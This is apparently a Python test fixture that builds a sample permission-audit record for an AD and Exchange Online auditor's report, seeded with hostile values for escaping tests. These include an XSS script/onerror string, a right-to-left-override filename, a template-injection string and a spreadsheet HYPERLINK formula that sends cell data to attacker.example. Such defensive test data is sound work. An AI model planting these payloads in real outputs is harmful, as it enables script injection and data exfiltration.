"""A composed record for the tests of the report: two connections, every outcome, hostile names."""

from __future__ import annotations

import hashlib
from collections import Counter

from auditor.model.connection import ConnectionKind
from auditor.model.drift import DriftEntry, DriftRecord
from auditor.model.outcome import DriftState, FindingOutcome, Outcome, Severity, Verdict, WaiverState
from auditor.model.results import (
    ConnectionResult,
    ControlReference,
    Counts,
    EarlierRun,
    EntitlementRecord,
    EvidenceReference,
    Exit,
    Finding,
    HostRecord,
    MatrixReference,
    MatrixSource,
    PrincipalRecord,
    Remediation,
    RequirementPart,
    RequirementResult,
    Results,
    Run,
    SourceRecord,
    Summary,
    Tool,
    WaiverRecord,
    WithoutDomainAdmins,
)

NAMES = "Łukasz Ελληνικά Кириллица"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
REVERSED = "OU=Leavers\u202egnp.exe,DC=corp,DC=example,DC=com"
INVISIBLE = "H2R\u200bAdmins\u0007"
TEMPLATE = "{{ 7*7 }}</style></script><!--"
UNCOVERED = "OU=漢字,DC=corp,DC=example,DC=com"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
HOSTILE = (SCRIPT, REVERSED, INVISIBLE, TEMPLATE, UNCOVERED, FORMULA)

STAFF = f"OU={NAMES},OU=Staff,DC=corp,DC=example,DC=com"
LONG = ",".join(
    ["CN=svc-h2r", *(f"OU=Level {level} of a deep tree" for level in range(12)), "DC=corp", "DC=example"]
)
ACCOUNT_SID = "S-1-5-21-1004336348-1177238915-682003330-1108"
ACCOUNT_ID = "8c1d9a4e-0f5b-4f0e-9f58-3d6e3f3c1a11"

MATRIX = MatrixReference(
    id="hybrid-exchange-online",
    version="1.0.0",
    sha256=hashlib.sha256(b"matrix").hexdigest(),
    source=MatrixSource(
        title="Hybrid with Exchange Online",
        url="https://vendor.example/hybrid-with-exchange-online",
        variant="H-A",
        date="2025-06-30",
    ),
)
CONTROLS = (
    ControlReference(framework="nist-800-53r5", id="AC-6"),
    ControlReference(framework="soc-2", id="CC6.3"),
)


def sample_results() -> Results:
    """Return the record."""
    connections = (_hybrid(), _exchange_online())
    findings = _findings()
    return Results(
        run=Run(
            id="20261123T040506Z-5f0c2d9e",
            kind="review",
            organisation="Contoso Zażółć Ltd",
            started_at="2026-11-23T04:05:06.789Z",
            finished_at="2026-11-23T04:06:41.120Z",
            evaluated_at="2026-11-23T04:06:42.000Z",
            operator="auditor@corp.example.com",
            host="audit01.corp.example.com",
            tool=Tool(name="hire2retire-permission-auditor", version="0.1.0"),
            argv=("auditor", "run", "-c", "inventory.yaml"),
            fail_on=Severity.MEDIUM,
            matrix=MATRIX,
            evidence_sha256=hashlib.sha256(b"evidence").hexdigest(),
            exit=Exit(code=1, reason="5 findings at or above medium"),
        ),
        summary=Summary(
            verdict=Verdict.NON_COMPLIANT,
            counts=_counts(
                [one for connection in connections for one in connection.requirements],
                findings,
            ),
        ),
        connections=connections,
        findings=findings,
        drift=DriftRecord(
            baseline_run="20260823T040502Z-11aa90cf",
            compared=9,
            new=(findings[1].key,),
            resolved=("EXO-013|contoso-exchange|gone",),
            changed=(findings[0].key,),
            not_comparable=(findings[5].key,),
            baseline_evaluated_at="2026-08-23T04:05:02.000Z",
            entries=(
                _difference(findings[1].key, DriftState.NEW, "absent", "excess", f"Member of {SCRIPT}"),
                _difference("EXO-013|contoso-exchange|gone", DriftState.RESOLVED, "excess", "absent", INVISIBLE),
                _difference(findings[0].key, DriftState.CHANGED, "partial", "missing", REVERSED),
                _difference(
                    findings[5].key,
                    DriftState.NOT_COMPARABLE,
                    "satisfied",
                    "unverifiable",
                    "Role assignments",
                    reason="the later run could not verify it",
                ),
                _difference(
                    "entitlement-1", DriftState.NEW, "absent", "excess", TEMPLATE, subject="entitlement"
                ),
            ),
        ),
        waivers=(
            _waiver("W-1", WaiverState.ACTIVE, findings[6], note="it ends at 2027-02-01T00:00:00.000Z"),
            _waiver("W-2", WaiverState.VOID, findings[0], note="the finding is no longer in the accepted state"),
            _waiver("W-3", WaiverState.UNMATCHED, None, note="no finding of this run is the one it names"),
        ),
        trend=tuple(
            EarlierRun(
                run=f"202611{day}T040506Z-5f0c2d9e",
                evaluated_at=f"2026-11-{day}T04:05:06.000Z",
                verdict=Verdict.NON_COMPLIANT,
                counts=Counts(evaluated=12, satisfied=day - 12, partial=1, missing=22 - day, unverifiable=1),
            )
            for day in (19, 20, 21)
        ),
        limitations=(f"Group Policy was not read for {SCRIPT}.",),
    )


def clean_results() -> Results:
    """Return a record of one satisfied connection without findings, waivers or earlier run."""
    requirement = _requirement(
        "M6", "The account exists and is enabled", Outcome.SATISFIED, plane="entra_account"
    )
    sample = sample_results()
    connection = _connection(
        connection_id="contoso-exchange",
        kind=ConnectionKind.EXCHANGE_ONLINE,
        name="Exchange Online",
        verdict=Verdict.COMPLIANT,
        requirements=(requirement,),
        principal=PrincipalRecord(name="svc-h2r@contoso.com", object_id=ACCOUNT_ID),
        configuration={"tenant": "contoso.onmicrosoft.com"},
        findings=(),
        sources=(_source("user", "https://graph.microsoft.com", {"method": "GET", "url": "/v1.0/users/x"}),),
    )
    return Results(
        run=sample.run,
        summary=Summary(verdict=Verdict.COMPLIANT, counts=_counts([requirement], ())),
        connections=(connection,),
        findings=(),
    )


def _hybrid() -> ConnectionResult:
    requirements = (
        _requirement(
            "M7",
            "Member of Domain Admins",
            Outcome.SATISFIED,
            plane="ad_group",
            how="via_group",
            check="AD-GRP-001",
            actual="Member through two groups.",
            paths=(("svc-h2r", INVISIBLE, "Domain Admins"),),
        ),
        _requirement(
            "M8",
            "Delegated control of the target OU",
            Outcome.PARTIAL,
            scope=STAFF,
            parts=(
                _part("Create user objects", Outcome.SATISFIED, "exact"),
                _part("Delete user objects", Outcome.MISSING),
                _part("Full control of user objects below", Outcome.SATISFIED, "superset"),
            ),
            reason="Deleting users is not delegated.",
            actual="Two of three rights are delegated.",
            paths=(("svc-h2r", "H2R Delegates", f"ACE 14 on {STAFF}"),),
        ),
        _requirement(
            "M8",
            "Delegated control of the target OU",
            Outcome.MISSING,
            scope=REVERSED,
            parts=(
                _part("Create user objects", Outcome.MISSING),
                _part("Delete user objects", Outcome.MISSING),
                _part("Full control of user objects below", Outcome.MISSING),
            ),
            actual="Nothing beyond reading is delegated.",
        ),
        _requirement(
            "M8",
            "Delegated control of the target OU",
            Outcome.UNVERIFIABLE,
            scope=UNCOVERED,
            reason="The security descriptor could not be read.",
            actual="Not known.",
        ),
        _requirement(
            "M9",
            "LDAP over TLS on the documented port",
            Outcome.SATISFIED,
            scope="10.1.0.10",
            plane="ad_connection",
            how="exact",
            check="AD-CON-001",
            actual="TLS 1.3 on port 636.",
        ),
        _requirement(
            "M7",
            "Member of Domain Admins",
            Outcome.NOT_APPLICABLE,
            scope="DC=child,DC=corp,DC=example,DC=com",
            plane="ad_group",
            check="AD-GRP-001",
            actual="The account's home domain is another one.",
        ),
    )
    return _connection(
        connection_id="corp-hybrid",
        kind=ConnectionKind.HYBRID,
        name="Connection-Directory Service",
        verdict=Verdict.NON_COMPLIANT,
        requirements=requirements,
        principal=PrincipalRecord(name="svc-h2r@corp.example.com", sid=ACCOUNT_SID, dn=LONG),
        configuration={
            "hosts": ["10.1.0.10", "10.1.0.11"],
            "port": 636,
            "base_dns": ["DC=corp,DC=example,DC=com"],
            "username": "svc-h2r@corp.example.com",
            "tls_server_name": None,
            "global_catalog": False,
            "target_ous": [STAFF, REVERSED, UNCOVERED],
        },
        findings=_findings(),
        without_domain_admins=(
            WithoutDomainAdmins(
                id="M7", scope="", outcome=Outcome.MISSING, reason="This is the requirement itself."
            ),
            WithoutDomainAdmins(
                id="M8",
                scope=STAFF,
                outcome=Outcome.PARTIAL,
                reason="Deleting users would stop working.",
                add=("Delete user objects, this object and all descendants",),
            ),
        ),
        entitlements=(
            EntitlementRecord(
                kind="ad_group",
                name="Domain Admins",
                id="S-1-5-21-1-2-3-512",
                scope="corp.example.com",
                status="documented",
                paths=(("svc-h2r", INVISIBLE, "Domain Admins"),),
            ),
            EntitlementRecord(
                kind="ad_group",
                name=TEMPLATE,
                id="S-1-5-21-1-2-3-1199",
                scope="",
                status="excess",
                paths=(("svc-h2r", SCRIPT),),
            ),
            EntitlementRecord(
                kind="ad_group", name="Domain Users", id="S-1-5-21-1-2-3-513", scope="", status="baseline"
            ),
        ),
        hosts=(
            HostRecord(
                host="10.1.0.10",
                port=636,
                reachable=True,
                tls="TLSv1.3, TLS_AES_256_GCM_SHA384",
                certificate="verified; CN=dc1.corp.example.com; valid to 2027-03-01; SHA-256 5b7c…91",
                sign_in="signed in",
                domain="DC=corp,DC=example,DC=com",
            ),
            HostRecord(
                host="10.1.0.11",
                port=636,
                reachable=False,
                tls="",
                certificate="",
                sign_in="not attempted",
                domain="",
            ),
        ),
        sources=(
            _source("host", "ldaps://10.1.0.10:636", {"operation": "bind and root DSE"}, subject="10.1.0.10"),
            _source(
                "host",
                "ldaps://10.1.0.11:636",
                {"operation": "bind and root DSE"},
                subject="10.1.0.11",
                records=1,
                error="connection refused",
                kind="unreachable",
            ),
            _source(
                "account",
                "ldaps://10.1.0.10:636",
                {
                    "base": "DC=corp,DC=example,DC=com",
                    "scope": "subtree",
                    "filter": "(userPrincipalName=svc-h2r@corp.example.com)",
                    "attributes": ["objectSid", "userAccountControl", "memberOf", "nTSecurityDescriptor"],
                    "controls": [
                        "1.2.840.113556.1.4.801 (flags 5)",
                        "1.2.840.113556.1.4.319 (page size 500)",
                    ],
                },
            ),
            _source("target_ou", "ldaps://10.1.0.10:636", {"base": STAFF, "scope": "base"}, subject=STAFF),
            _source(
                "target_ou", "ldaps://10.1.0.10:636", {"base": REVERSED, "scope": "base"}, subject=REVERSED
            ),
            _source(
                "target_ou",
                "ldaps://10.1.0.10:636",
                {"base": UNCOVERED, "scope": "base"},
                subject=UNCOVERED,
                error="the server returned the object without its security descriptor",
                kind="not_permitted",
                permission="Read permissions on the OU",
            ),
        ),
    )


def _exchange_online() -> ConnectionResult:
    requirements = (
        _requirement(
            "M1",
            "Entra ID distribution list",
            Outcome.SATISFIED,
            plane="exchange_role",
            check="EXO-002",
            how="via_role_group",
            actual="Distribution Groups is held.",
            paths=(("svc-h2r@contoso.com", "H2R Provisioning", "Distribution Groups"),),
        ),
        _requirement(
            "M2",
            "Microsoft O365 Groups",
            Outcome.MISSING,
            plane="exchange_role",
            check="EXO-003",
            parts=(
                _part("User Administrator", Outcome.MISSING),
                _part("Mail Recipients", Outcome.SATISFIED, "via_role_group"),
            ),
            reason="User Administrator is only eligible, not active.",
            actual="One of two roles is held.",
        ),
        _requirement(
            "M3",
            "Mail-enabled security groups",
            Outcome.SATISFIED,
            plane="exchange_role",
            check="EXO-004",
            how="direct",
            actual="Security Group Creation and Membership is held directly.",
        ),
        _requirement(
            "M4",
            "Shared mailbox",
            Outcome.UNVERIFIABLE,
            plane="entra_role",
            check="ENT-001",
            reason="Role assignments could not be read.",
            actual="Not known.",
            note="Per Microsoft, User Administrator cannot manage shared mailboxes.",
        ),
        _requirement(
            "M6",
            "The account exists and is enabled",
            Outcome.SATISFIED,
            plane="entra_account",
            check="ENT-005",
            how="exact",
            actual="Enabled, known to Exchange.",
            basis="derived",
        ),
    )
    return _connection(
        connection_id="contoso-exchange",
        kind=ConnectionKind.EXCHANGE_ONLINE,
        name=f"Exchange Online {NAMES}",
        verdict=Verdict.INCONCLUSIVE,
        requirements=requirements,
        principal=PrincipalRecord(name="svc-h2r@contoso.com", object_id=ACCOUNT_ID),
        configuration={
            "tenant": "contoso.onmicrosoft.com",
            "cloud": "global",
            "endpoints": {
                "login": "https://login.microsoftonline.com",
                "graph": "https://graph.microsoft.com",
            },
        },
        findings=_findings(),
        entitlements=(
            EntitlementRecord(
                kind="exchange_role",
                name="Distribution Groups",
                id="",
                scope="Organization",
                status="documented",
                paths=(("svc-h2r@contoso.com", "H2R Provisioning"),),
            ),
            EntitlementRecord(
                kind="exchange_role_group",
                name="Organization Management",
                id="9d3f",
                scope="",
                status="excess",
                paths=(("svc-h2r@contoso.com", "Organization Management"),),
            ),
        ),
        sources=(
            _source(
                "user",
                "https://graph.microsoft.com",
                {
                    "method": "GET",
                    "url": "/v1.0/users/svc-h2r@contoso.com?$select=id,accountEnabled",
                },
            ),
            _source(
                "role_assignments",
                "https://graph.microsoft.com",
                {
                    "method": "GET",
                    "url": "/v1.0/roleManagement/directory/roleAssignments",
                },
                subject=ACCOUNT_ID,
                records=0,
                error="403 Forbidden: insufficient privileges",
                kind="not_permitted",
                permission="RoleManagement.Read.Directory",
            ),
            _source(
                "role_groups",
                "https://outlook.office365.com",
                {
                    "cmdlet": "Get-RoleGroup",
                    "parameters": {"ResultSize": "Unlimited"},
                },
                records=14,
                pages=2,
            ),
        ),
    )


def _findings() -> tuple[Finding, ...]:
    return (
        _finding(
            "AD-DEL-001",
            FindingOutcome.MISSING,
            Severity.HIGH,
            f"No delegation on {REVERSED}",
            scope=REVERSED,
            commands=(f'dsacls "{REVERSED}" /I:T /G "CORP\\svc-h2r:CCDC;user"',),
            drift="changed",
        ),
        _finding(
            "AD-PRV-002",
            FindingOutcome.EXCESS,
            Severity.CRITICAL,
            f"Member of {SCRIPT}",
            scope="",
            drift="new",
            paths=(("svc-h2r", INVISIBLE, SCRIPT),),
        ),
        _finding("AD-DEL-002", FindingOutcome.PARTIAL, Severity.HIGH, "Users cannot be deleted", scope=STAFF),
        _finding(
            "EXO-003",
            FindingOutcome.MISSING,
            Severity.HIGH,
            "User Administrator is not active",
            connection="contoso-exchange",
            principal=ACCOUNT_ID,
        ),
        _finding(
            "EXO-010",
            FindingOutcome.EXCESS,
            Severity.CRITICAL,
            "Member of Organization Management",
            connection="contoso-exchange",
            principal=ACCOUNT_ID,
        ),
        _finding(
            "ENT-001",
            FindingOutcome.UNVERIFIABLE,
            Severity.MEDIUM,
            "Role assignments could not be read",
            connection="contoso-exchange",
            principal=ACCOUNT_ID,
            dataset="role_assignments",
        ),
        _finding(
            "AD-CON-002",
            FindingOutcome.EXCESS,
            Severity.MEDIUM,
            "Read access to a second OU",
            scope=STAFF,
            waiver="W-1",
        ),
        _finding("AD-ACC-013", FindingOutcome.ADVISORY, Severity.LOW, FORMULA, scope=LONG),
        _finding("AD-ACC-014", FindingOutcome.ADVISORY, Severity.INFO, f"Owner is not recorded for {NAMES}"),
    )


def _difference(
    key: str,
    state: DriftState,
    before: str,
    after: str,
    title: str,
    *,
    subject: str = "finding",
    reason: str = "",
) -> DriftEntry:
    return DriftEntry(
        key=key,
        subject=subject,
        state=state,
        connection="corp-hybrid",
        title=title,
        scope=STAFF,
        before=before,
        after=after,
        reason=reason,
    )


def _waiver(waiver_id: str, state: WaiverState, finding: Finding | None, *, note: str) -> WaiverRecord:
    return WaiverRecord(
        id=waiver_id,
        state=state,
        in_effect=state is WaiverState.ACTIVE,
        is_self_approved=False,
        finding=finding.key if finding else None,
        note=note,
        check=finding.check if finding else "EXO-010",
        connection=finding.connection if finding else "elsewhere",
        principal=finding.principal if finding else ACCOUNT_ID,
        entitlement=finding.entitlement if finding else INVISIBLE,
        scope=finding.scope if finding else REVERSED,
        accepted_fingerprint=f"sha256:{'0' * 64}",
        reason=f"Accepted until renewal, {NAMES}",
        owner="d.owner@example.com",
        approved_by=SCRIPT,
        ticket="CHG-4711",
        created="2026-11-01",
        expires="2027-01-31",
    )


def _finding(
    check: str,
    outcome: FindingOutcome,
    severity: Severity,
    title: str,
    *,
    scope: str = "",
    connection: str = "corp-hybrid",
    principal: str = ACCOUNT_SID,
    commands: tuple[str, ...] = (),
    paths: tuple[tuple[str, ...], ...] = (),
    waiver: str | None = None,
    drift: str | None = None,
    dataset: str = "account",
) -> Finding:
    digest = hashlib.sha256(f"{check}|{connection}|{principal}|{scope}".encode()).hexdigest()[:16]
    return Finding(
        key=f"{check}-{digest}",
        check=check,
        connection=connection,
        outcome=outcome,
        severity=severity,
        principal=principal,
        entitlement=check,
        scope=scope,
        title=title,
        documented="Not documented."
        if outcome is FindingOutcome.EXCESS
        else "Documented on the vendor's page.",
        actual=f"As read, {NAMES}.",
        why="Whoever controls this account controls what it holds.",
        paths=paths,
        remediation=Remediation(text="Review the grant and correct it.", commands=commands),
        controls=CONTROLS,
        evidence=(EvidenceReference(dataset=dataset, record=scope),),
        waiver=waiver,
        drift=drift,
    )


def _requirement(
    name: str,
    title: str,
    outcome: Outcome,
    *,
    scope: str = "",
    plane: str = "ad_delegation",
    check: str = "AD-DEL-001",
    how: str = "",
    reason: str = "",
    actual: str = "",
    note: str = "",
    basis: str = "documented",
    paths: tuple[tuple[str, ...], ...] = (),
    parts: tuple[RequirementPart, ...] = (),
) -> RequirementResult:
    return RequirementResult(
        id=name,
        check=check,
        title=title,
        scope=scope,
        plane=plane,
        basis=basis,
        outcome=outcome,
        how=how,
        reason=reason,
        documented="The service account holds it, as the vendor's page says.",
        actual=actual,
        note=note,
        paths=paths,
        parts=parts,
        evidence=(EvidenceReference(dataset="account", record=LONG),),
    )


def _part(title: str, outcome: Outcome, how: str = "") -> RequirementPart:
    return RequirementPart(title=title, outcome=outcome, how=how, reason="")


def _source(
    dataset: str,
    endpoint: str,
    query: dict[str, object],
    *,
    subject: str = "",
    records: int = 1,
    pages: int = 1,
    error: str | None = None,
    kind: str | None = None,
    permission: str | None = None,
) -> SourceRecord:
    return SourceRecord(
        dataset=dataset,
        subject=subject,
        endpoint=endpoint,
        query=query,
        started_at="2026-11-23T04:05:10.000Z",
        finished_at="2026-11-23T04:05:11.250Z",
        records=records,
        pages=pages,
        complete=error is None,
        error=error,
        error_kind=kind,
        missing_permission=permission,
        sha256=hashlib.sha256(f"{dataset}{subject}".encode()).hexdigest(),
    )


def _connection(
    *,
    connection_id: str,
    kind: ConnectionKind,
    name: str,
    verdict: Verdict,
    requirements: tuple[RequirementResult, ...],
    principal: PrincipalRecord,
    configuration: dict[str, object],
    findings: tuple[Finding, ...],
    sources: tuple[SourceRecord, ...],
    entitlements: tuple[EntitlementRecord, ...] = (),
    without_domain_admins: tuple[WithoutDomainAdmins, ...] = (),
    hosts: tuple[HostRecord, ...] = (),
) -> ConnectionResult:
    return ConnectionResult(
        id=connection_id,
        kind=kind,
        name=name,
        verdict=verdict,
        counts=_counts(requirements, [one for one in findings if one.connection == connection_id]),
        matrix=MATRIX,
        configuration=configuration,
        signed_in_as="auditor@corp.example.com",
        principal=principal,
        requirements=requirements,
        without_domain_admins=without_domain_admins,
        entitlements=entitlements,
        hosts=hosts,
        sources=sources,
    )


def _counts(requirements: list[RequirementResult], findings: tuple[Finding, ...] | list[Finding]) -> Counts:
    outcomes = Counter(requirement.outcome.value for requirement in requirements)
    standing = Counter(finding.outcome.value for finding in findings if finding.waiver is None)
    return Counts(
        evaluated=len(requirements),
        **{outcome.value: outcomes[outcome.value] for outcome in Outcome},
        excess=standing["excess"],
        advisory=standing["advisory"],
        waived=sum(finding.waiver is not None for finding in findings),
    )
